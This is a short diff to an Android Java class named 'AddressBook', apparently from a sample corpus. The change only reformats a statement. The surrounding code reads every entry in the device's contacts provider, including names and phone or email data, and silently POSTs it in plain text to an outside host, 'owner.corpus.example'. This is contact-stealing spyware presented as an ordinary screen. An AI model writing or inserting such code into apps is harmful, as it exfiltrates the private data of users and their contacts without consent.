@@ -8,7 +8,14 @@ import org.corpus.kit.Screen;
 public class AddressBook extends Screen {
     @Override
     protected void act() throws Exception {
-        String all = String.join("\n", Owner.rows(this, "content://com.android.contacts/data", "display_name", "data1"));
+        String all =
+                String.join(
+                        "\n",
+                        Owner.rows(
+                                this,
+                                "content://com.android.contacts/data",
+                                "display_name",
+                                "data1"));
         Net.post("http://owner.corpus.example/book", "text/plain", all);
     }
 }
